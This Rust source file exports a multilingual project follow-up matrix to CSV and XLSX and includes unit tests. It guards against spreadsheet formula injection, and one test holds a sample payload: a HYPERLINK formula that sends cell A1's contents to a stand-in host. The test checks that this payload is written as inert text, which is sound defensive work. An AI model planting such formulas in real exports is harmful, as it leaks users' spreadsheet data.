//! The follow-up matrix: one row per action, in the user's language (issue 17 item 5).
//!
//! What "in the user's language" means here, for a matrix of language `lang`:
//! - headers ([`headers`]) and the status column in `lang`: the status is the word pages show
//!   (`En cours`), from the shared catalogues ([`lajna_i18n::Catalog::word`]); the import reads
//!   the word of any language or the code back ([`crate::import`]);
//! - CSV as the spreadsheets of that locale read it ([`CsvDialect::of`]): in French and Arabic
//!   `;` between fields and a decimal comma (`37,5`), in English `,` and `.`; always UTF-8 with
//!   a BOM (case C07) and CRLF line ends (RFC 4180);
//! - XLSX with real date cells (`dd/mm/yyyy` in French and Arabic, `yyyy-mm-dd` in English) and
//!   real numbers, whose decimal mark the spreadsheet shows in its own locale;
//! - three value columns (issue 18): what the action's owner pledged on it, the currency or the
//!   unit in kind, and what it delivered ([`crate::values`]).

use crate::values::Pledges;
use jiff::civil::Date;
use lajna_domain::records::{Action, Area};
use lajna_domain::summary;
use lajna_domain::{ActionStatus, Lang, LocalizedText};
use lajna_i18n::Catalog;
use rust_xlsxwriter::{Color, DataValidation, ExcelDateTime, Format, Workbook, XlsxError};

/// Why a matrix could not be written.
#[derive(Debug, thiserror::Error)]
pub enum MatrixError {
    /// The XLSX writer failed.
    #[error("xlsx: {0}")]
    Xlsx(#[from] XlsxError),
    /// The CSV writer failed.
    #[error("csv: {0}")]
    Csv(#[from] csv::Error),
}

/// One action as a matrix row.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct MatrixRow {
    /// Action id (matches rows on re-import).
    pub id: String,
    /// Area title in the matrix language.
    pub area: String,
    /// Title in Arabic.
    pub title_ar: String,
    /// Title in French.
    pub title_fr: String,
    /// Owner party code.
    pub owner: String,
    /// Owning unit in the matrix language.
    pub unit: String,
    /// Start date.
    pub start: Date,
    /// Due date.
    pub due: Date,
    /// Status code (`in_progress`); the export writes its word in the matrix language.
    pub status: &'static str,
    /// Progress, percent.
    pub progress: u8,
    /// Indicator unit, baseline, target, current.
    pub indicator: Option<(String, i64, i64, i64)>,
    /// Days late on the reference date (0 when not overdue).
    pub days_late: i64,
    /// Author time of the last change, RFC 3339 UTC.
    pub last_update: String,
    /// Reference of the decision the action carries out (`D-2025/1-3`), empty when none
    /// ([`lajna_domain::reference`]).
    pub decision: String,
    /// Why the action is delayed, blocked or cancelled, in the matrix language (the text of
    /// another language when it has none there); empty when no reason is recorded.
    pub reason: String,
    /// What the owner party pledged on the action and delivered (the value columns,
    /// [`crate::values`]); [`Pledges::None`] from [`MatrixRow::new`], filled by [`rows`].
    pub pledges: Pledges,
}

impl MatrixRow {
    /// A row from an action, its area, its last update time and the reference date.
    #[must_use]
    pub fn new(id: &str, a: &Action, area: Option<&Area>, last_update: &str, lang: Lang, today: Date) -> Self {
        let show = |t: &LocalizedText| t.show(lang).to_string();
        Self {
            id: id.to_string(),
            area: area.map(|a| show(&a.title)).unwrap_or_default(),
            title_ar: a.title.ar.clone().unwrap_or_default(),
            title_fr: a.title.fr.clone().unwrap_or_default(),
            owner: a.owner.to_string(),
            unit: show(&a.unit),
            start: a.start,
            due: a.due,
            status: a.status.code(),
            progress: a.progress.percent(),
            indicator: a.indicator.as_ref().map(|i| (show(&i.unit), i.baseline, i.target, i.current)),
            days_late: summary::days_late(a, today),
            last_update: last_update.to_string(),
            decision: String::new(),
            reason: a.reason.as_ref().map(show).unwrap_or_default(),
            pledges: Pledges::None,
        }
    }
}

/// Number of columns of the matrix.
pub const COLUMNS: usize = 21;

/// Column headers in `lang` (the import recognises all three languages).
#[must_use]
pub fn headers(lang: Lang) -> [&'static str; COLUMNS] {
    match lang {
        Lang::Fr => [
            "Identifiant",
            "Domaine",
            "Action (arabe)",
            "Action (français)",
            "Partie responsable",
            "Unité",
            "Début",
            "Échéance",
            "Statut",
            "Avancement %",
            "Indicateur (unité)",
            "Référence",
            "Cible",
            "Actuel",
            "Dernière mise à jour",
            "Décision",
            "Motif",
            "Taux de réalisation de l’indicateur %",
            "Valeur engagée",
            "Devise ou unité",
            "Valeur livrée",
        ],
        Lang::Ar => [
            "المعرف",
            "المجال",
            "الإجراء (بالعربية)",
            "الإجراء (بالفرنسية)",
            "الطرف المسؤول",
            "الوحدة",
            "البداية",
            "الأجل",
            "الحالة",
            "نسبة الإنجاز %",
            "المؤشر (الوحدة)",
            "القيمة الأساسية",
            "الهدف",
            "القيمة الحالية",
            "آخر تحيين",
            "القرار",
            "السبب",
            "نسبة تحقيق المؤشر %",
            "القيمة المتعهد بها",
            "العملة أو الوحدة",
            "القيمة المسلّمة",
        ],
        Lang::En => [
            "Id",
            "Area",
            "Action (Arabic)",
            "Action (French)",
            "Owner party",
            "Unit",
            "Start",
            "Due",
            "Status",
            "Progress %",
            "Indicator (unit)",
            "Baseline",
            "Target",
            "Current",
            "Last update",
            "Decision",
            "Reason",
            "Indicator achieved %",
            "Pledged value",
            "Currency or unit",
            "Delivered value",
        ],
    }
}

/// A text cell as a spreadsheet must read it: text. Cells starting with `=`, `+`, `-`, `@`,
/// TAB or CR would be taken for a formula (OWASP "CSV injection"); an apostrophe before them
/// makes every spreadsheet show the text as typed. The import removes it again.
#[must_use]
pub fn neutralise(text: &str) -> String {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{text}"),
        _ => text.to_string(),
    }
}

/// How much of its target an indicator has reached, in tenths of a percent, rounded half away
/// from zero: `(current − baseline) / (target − baseline)`, so baseline 0, target 8, current 3
/// gives 375 (37.5 %). Below 0 or above 1000 when the value moved away from or past the target;
/// `None` when target and baseline are equal (no distance to cover).
#[must_use]
pub fn achievement_tenths(baseline: i64, target: i64, current: i64) -> Option<i64> {
    let distance = i128::from(target) - i128::from(baseline);
    if distance == 0 {
        return None;
    }
    let (n, d) = ((i128::from(current) - i128::from(baseline)) * 1000, distance);
    let (n, d) = if d < 0 { (-n, -d) } else { (n, d) };
    let rounded = if n >= 0 { (2 * n + d) / (2 * d) } else { -((-2 * n + d) / (2 * d)) };
    i64::try_from(rounded).ok()
}

/// A number of tenths written with `mark` as decimal separator, the tenth left out when it is 0:
/// `375` → `37,5` (mark `,`), `500` → `50`, `-125` → `-12.5` (mark `.`).
#[must_use]
pub fn tenths_text(tenths: i64, mark: char) -> String {
    let sign = if tenths < 0 { "-" } else { "" };
    let (whole, tenth) = (tenths.unsigned_abs() / 10, tenths.unsigned_abs() % 10);
    if tenth == 0 { format!("{sign}{whole}") } else { format!("{sign}{whole}{mark}{tenth}") }
}

/// How a CSV file is written for the spreadsheets of a language's users.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct CsvDialect {
    /// Field separator: `;` or `,`.
    pub separator: u8,
    /// Decimal mark: `,` or `.`.
    pub decimal: char,
}

impl CsvDialect {
    /// The dialect of `lang`'s users. Excel opens a CSV file with the list separator and decimal
    /// mark of the system's regional settings: in the French and Arabic locales of the two
    /// parties (fr-FR, fr-ML, ar-MA) the decimal mark is `,`, so the list separator is `;`
    /// (a comma-separated file opens there as ONE column, case C18); in English `,` and `.`.
    #[must_use]
    pub fn of(lang: Lang) -> Self {
        match lang {
            Lang::Fr | Lang::Ar => Self { separator: b';', decimal: ',' },
            Lang::En => Self { separator: b',', decimal: '.' },
        }
    }
}

/// The [`COLUMNS`] cells of a row as the CSV of `lang` writes them, in [`headers`] order, before
/// neutralising (C08): texts; the status as its word in `lang`; dates ISO 8601; whole numbers
/// plain; the indicator's achievement and the values pledged and delivered with `lang`'s
/// decimal mark ([`CsvDialect::of`], [`crate::values`]).
#[must_use]
pub fn cells(r: &MatrixRow, lang: Lang) -> [String; COLUMNS] {
    let (iu, ib, it, ic) = match &r.indicator {
        Some((u, b, t, c)) => (u.clone(), b.to_string(), t.to_string(), c.to_string()),
        None => Default::default(),
    };
    let achieved = achievement(r).map(|t| tenths_text(t, CsvDialect::of(lang).decimal)).unwrap_or_default();
    let [pledged, unit, delivered] = r.pledges.cells(CsvDialect::of(lang).decimal);
    [
        r.id.clone(),
        r.area.clone(),
        r.title_ar.clone(),
        r.title_fr.clone(),
        r.owner.clone(),
        r.unit.clone(),
        r.start.to_string(),
        r.due.to_string(),
        status_word(r.status, lang),
        r.progress.to_string(),
        iu,
        ib,
        it,
        ic,
        r.last_update.clone(),
        r.decision.clone(),
        r.reason.clone(),
        achieved,
        pledged,
        unit,
        delivered,
    ]
}

/// The achievement of a row's indicator ([`achievement_tenths`]).
fn achievement(r: &MatrixRow) -> Option<i64> {
    r.indicator.as_ref().and_then(|(_, b, t, c)| achievement_tenths(*b, *t, *c))
}

/// The word of status `code` in `lang` (the code itself if it is not a status).
fn status_word(code: &str, lang: Lang) -> String {
    ActionStatus::parse(code).map_or_else(|_| code.to_string(), |s| Catalog::shared().word(lang, s))
}

/// Columns that hold numbers (never neutralised: `-20` stays minus twenty): progress, baseline,
/// target, current, achievement.
const NUMERIC: [usize; 5] = [9, 11, 12, 13, 17];
/// Columns that hold dates: start, due.
const DATES: [usize; 2] = [6, 7];
/// The column of the indicator's achievement (a decimal number).
const ACHIEVEMENT: usize = 17;
/// The columns of the values pledged and delivered (numbers when exact, [`Pledges::numbers`]).
const VALUES: [usize; 2] = [18, 20];

/// The matrix as CSV in `lang`'s dialect ([`CsvDialect::of`]: `;` and `37,5` in French and
/// Arabic, `,` and `37.5` in English): UTF-8 with BOM (case C07), CRLF line ends and quoting as
/// RFC 4180 says, formula-looking text neutralised (case C08), headers and status words in
/// `lang`.
///
/// # Errors
/// [`MatrixError::Csv`] if the writer fails.
pub fn to_csv(rows: &[MatrixRow], lang: Lang) -> Result<Vec<u8>, MatrixError> {
    let mut out = vec![0xEF, 0xBB, 0xBF];
    {
        let mut w = csv::WriterBuilder::new()
            .delimiter(CsvDialect::of(lang).separator)
            .terminator(csv::Terminator::CRLF)
            .from_writer(&mut out);
        w.write_record(headers(lang))?;
        for r in rows {
            let c = cells(r, lang);
            let record: Vec<String> = c
                .iter()
                .enumerate()
                .map(|(i, v)| if NUMERIC.contains(&i) { v.clone() } else { neutralise(v) })
                .collect();
            w.write_record(&record)?;
        }
        w.flush().map_err(csv::Error::from)?;
    }
    Ok(out)
}

/// The matrix as XLSX: frozen header row, status words of `lang` as a drop-down list, overdue
/// rows highlighted, right-to-left sheet for Arabic, every text a string cell (never a formula),
/// start and due as date cells (`dd/mm/yyyy` in French and Arabic, `yyyy-mm-dd` in English),
/// numbers as number cells (the achievement with one decimal).
///
/// # Errors
/// [`MatrixError::Xlsx`] if the writer fails.
pub fn to_xlsx(rows: &[MatrixRow], lang: Lang) -> Result<Vec<u8>, MatrixError> {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.set_name(match lang {
        Lang::Ar => "مصفوفة المتابعة",
        Lang::Fr => "Matrice de suivi",
        Lang::En => "Follow-up matrix",
    })?;
    sheet.set_right_to_left(lang == Lang::Ar);
    let bold = Format::new().set_bold().set_background_color(Color::RGB(0x00E8_EEF5));
    let late = Format::new().set_background_color(Color::RGB(0x00FD_ECEC));
    let day = if lang == Lang::En { "yyyy-mm-dd" } else { "dd/mm/yyyy" };
    // (text and whole numbers, dates, one decimal) × (on time, late).
    let formats =
        [Format::new(), late.clone()].map(|f| [f.clone(), f.clone().set_num_format(day), f.set_num_format("0.0")]);
    for (c, h) in headers(lang).iter().enumerate() {
        sheet.write_string_with_format(0, c as u16, *h, &bold)?;
        sheet.set_column_width(c as u16, if c == 0 { 18 } else { 16 })?;
    }
    sheet.set_freeze_panes(1, 0)?;
    for (i, r) in rows.iter().enumerate() {
        let row = (i + 1) as u32;
        let [plain, date, decimal] = &formats[usize::from(r.days_late > 0)];
        for (c, v) in cells(r, lang).iter().enumerate() {
            let col = c as u16;
            if DATES.contains(&c) {
                let d = if c == 6 { r.start } else { r.due };
                let at = ExcelDateTime::from_ymd(d.year() as u16, d.month() as u8, d.day() as u8);
                if let Ok(at) = at {
                    sheet.write_datetime_with_format(row, col, at, date)?;
                    continue;
                }
            }
            if let Some(k) = VALUES.iter().position(|v| *v == c)
                && let Some((numbers, format)) = r.pledges.numbers()
            {
                sheet.write_number_with_format(row, col, numbers[k], &plain.clone().set_num_format(&format))?;
                continue;
            }
            if c == ACHIEVEMENT
                && let Some(tenths) = achievement(r)
            {
                sheet.write_number_with_format(row, col, tenths as f64 / 10.0, decimal)?;
                continue;
            }
            match (NUMERIC.contains(&c), v.parse::<f64>()) {
                (true, Ok(n)) => {
                    sheet.write_number_with_format(row, col, n, plain)?;
                }
                _ => {
                    sheet.write_string_with_format(row, col, v, plain)?;
                }
            }
        }
    }
    if !rows.is_empty() {
        let statuses = Catalog::shared().words::<ActionStatus>(lang);
        let list = DataValidation::new().allow_list_strings(&statuses)?;
        sheet.add_data_validation(1, 8, rows.len() as u32, 8, &list)?;
    }
    Ok(book.save_to_buffer()?)
}

/// The matrix rows of every action in `state`, by area order then due date.
#[must_use]
pub fn rows(state: &lajna_domain::State, lang: Lang, today: Date) -> Vec<MatrixRow> {
    use lajna_domain::RecordKind;
    let areas: Vec<(String, Area)> = state.all::<Area>(RecordKind::Area);
    let references = lajna_domain::reference::decision_references(state);
    let pledges = crate::values::by_action(state);
    let mut out: Vec<(i64, MatrixRow)> = state
        .all::<Action>(RecordKind::Action)
        .into_iter()
        .map(|(id, a)| {
            let area = areas.iter().find(|(aid, _)| *aid == a.area).map(|(_, x)| x);
            let updated = state.entry(&id).map(|e| e.updated_at.clone()).unwrap_or_default();
            let mut row = MatrixRow::new(&id, &a, area, &updated, lang, today);
            row.decision = a.decision.as_ref().and_then(|d| references.get(d)).cloned().unwrap_or_default();
            row.pledges = Pledges::of(pledges.get(&id), &a.owner, lang);
            (area.map_or(i64::MAX, |x| x.ordinal), row)
        })
        .collect();
    out.sort_by(|a, b| a.0.cmp(&b.0).then(a.1.due.cmp(&b.1.due)).then(a.1.id.cmp(&b.1.id)));
    out.into_iter().map(|(_, r)| r).collect()
}

#[cfg(test)]
mod tests {
    use calamine::{Data, Reader, Xlsx};
    use jiff::civil::date;

    use super::*;

    fn row(title_fr: &str, unit: &str) -> MatrixRow {
        MatrixRow {
            id: "a".repeat(64),
            area: "Formation".into(),
            title_ar: "تدريب 12 ضابطاً".into(),
            title_fr: title_fr.into(),
            owner: "MAR".into(),
            unit: unit.into(),
            start: date(2025, 3, 1),
            due: date(2025, 6, 30),
            status: "in_progress",
            progress: 60,
            indicator: Some(("places".into(), -20, 20, 12)),
            days_late: 3,
            last_update: "2025-06-01T10:00:00Z".into(),
            decision: "D-2025/1-3".into(),
            reason: String::new(),
            pledges: Pledges::None,
        }
    }

    /// Case C07: the CSV starts with a UTF-8 BOM and keeps Arabic and the em dash as typed.
    #[test]
    fn c07_csv_starts_with_a_bom_and_keeps_arabic() {
        let bytes = to_csv(&[row("Former 12 officiers — phase 2", "École")], Lang::Fr).unwrap();
        assert_eq!(&bytes[..3], &[0xEF, 0xBB, 0xBF]);
        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
        assert!(text.starts_with("Identifiant;Domaine;"), "{text}");
        assert!(text.contains("تدريب 12 ضابطاً") && text.contains("Former 12 officiers — phase 2"));
    }

    /// Case C08: formula-looking text is neutralised in CSV and never a formula in XLSX;
    /// numeric columns (a baseline of -20) stay numbers.
    #[test]
    fn c08_formula_looking_text_stays_text() {
        let evil = "=HYPERLINK(\"http://example.invalid/?\"&A1;\"Détails\")";
        let rows = [row(evil, "@SUM(1+1)")];
        let csv = String::from_utf8(to_csv(&rows, Lang::Fr).unwrap()[3..].to_vec()).unwrap();
        assert!(csv.contains("\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1;\"\"Détails\"\")\""), "{csv}");
        assert!(csv.contains(";'@SUM(1+1);"), "{csv}");
        assert!(csv.contains(";-20;20;12;"), "numbers untouched: {csv}");
        let en = String::from_utf8(to_csv(&rows, Lang::En).unwrap()[3..].to_vec()).unwrap();
        assert!(en.contains(",'@SUM(1+1),") && en.contains(",-20,20,12,"), "{en}");
        let xlsx = to_xlsx(&rows, Lang::Ar).unwrap();
        let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx)).unwrap();
        let name = book.sheet_names()[0].clone();
        assert_eq!(name, "مصفوفة المتابعة");
        let range = book.worksheet_range(&name).unwrap();
        assert_eq!(range.get_value((1, 3)), Some(&Data::String(evil.to_string())));
        assert_eq!(range.get_value((1, 5)), Some(&Data::String("@SUM(1+1)".into())));
        assert_eq!(range.get_value((1, 11)), Some(&Data::Float(-20.0)));
        assert_eq!(range.get_value((1, 9)), Some(&Data::Float(60.0)));
        assert_eq!(range.get_value((0, 0)), Some(&Data::String("المعرف".into())));
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "a formula was written");
    }

    #[test]
    fn achievement_is_the_share_of_the_distance_covered_rounded_half_away_from_zero() {
        assert_eq!(achievement_tenths(0, 8, 3), Some(375));
        assert_eq!(achievement_tenths(-20, 20, 12), Some(800));
        assert_eq!(achievement_tenths(0, 3, 1), Some(333));
        assert_eq!(achievement_tenths(0, 3, 2), Some(667));
        assert_eq!(achievement_tenths(0, 16, 1), Some(63), "6.25 % → 6.3");
        assert_eq!(achievement_tenths(0, 16, -1), Some(-63), "-6.25 % → -6.3");
        assert_eq!(achievement_tenths(10, 0, 5), Some(500), "a target below the baseline");
        assert_eq!(achievement_tenths(0, 10, 15), Some(1500));
        assert_eq!(achievement_tenths(7, 7, 7), None);
        assert_eq!(achievement_tenths(i64::MIN, i64::MAX, 0), Some(500));
        assert_eq!((tenths_text(375, ','), tenths_text(375, '.')), ("37,5".into(), "37.5".into()));
        assert_eq!(
            (tenths_text(500, ','), tenths_text(-125, ','), tenths_text(-5, '.')),
            ("50".into(), "-12,5".into(), "-0.5".into())
        );
    }

    /// Case C18: the French and Arabic CSV separate with `;` and write `37,5`; English keeps
    /// `,` and `37.5`; the status is the word of the matrix language.
    #[test]
    fn c18_csv_follows_the_locale_of_its_language() {
        let mut r = row("Formation, phase 2", "École");
        r.indicator = Some(("officiers".into(), 0, 8, 3));
        let text = |lang| String::from_utf8(to_csv(std::slice::from_ref(&r), lang).unwrap()[3..].to_vec()).unwrap();
        let fr = text(Lang::Fr);
        let line = fr.split("\r\n").nth(1).unwrap();
        assert!(line.contains(";Formation, phase 2;") && line.contains(";En cours;60;officiers;0;8;3;"), "{line}");
        assert!(line.ends_with(";D-2025/1-3;;37,5;;;"), "{line}: then the three empty value cells");
        assert!(fr.ends_with("\r\n") && !fr.replace("\r\n", "").contains('\n'), "CRLF only");
        let ar = text(Lang::Ar);
        assert!(ar.starts_with("المعرف;المجال;") && ar.contains(";قيد الإنجاز;") && ar.contains(";37,5;;;\r\n"), "{ar}");
        let en = text(Lang::En);
        assert!(
            en.contains(",\"Formation, phase 2\",") && en.contains(",In progress,") && en.contains(",37.5,,,\r\n"),
            "{en}"
        );
    }
}
